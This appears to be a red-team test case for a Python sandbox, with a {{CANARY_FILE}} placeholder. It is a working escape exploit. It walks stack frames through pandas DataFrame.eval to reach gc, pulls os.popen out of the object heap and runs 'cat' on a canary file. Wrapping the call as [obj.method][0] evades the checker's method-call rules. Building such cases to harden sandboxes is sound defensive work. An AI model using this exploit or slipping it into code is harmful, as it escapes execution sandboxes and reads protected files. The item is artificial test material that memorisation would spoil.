# class: gc_walk
# technique: the harness runner imports gc; DataFrame.eval (agg ** mapping) with a level walk resolves @gc in the runner's globals and returns gc.get_objects(), where os's namespace dict gives popen by subscript; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
heap = None
for depth in range(1, 48):
    try:
        heap = [frame.agg][0](**{"func": "eval", "expr": "@gc.get_objects()", "level": depth})
        break
    except Exception:
        continue
if heap is None:
    raise RuntimeError("no frame with gc")
os_dict = [o for o in heap if isinstance(o, dict) and "popen" in o and "fspath" in o][0]
df = pd.DataFrame({"stolen": [os_dict["popen"]("cat {{CANARY_FILE}}").read()]})
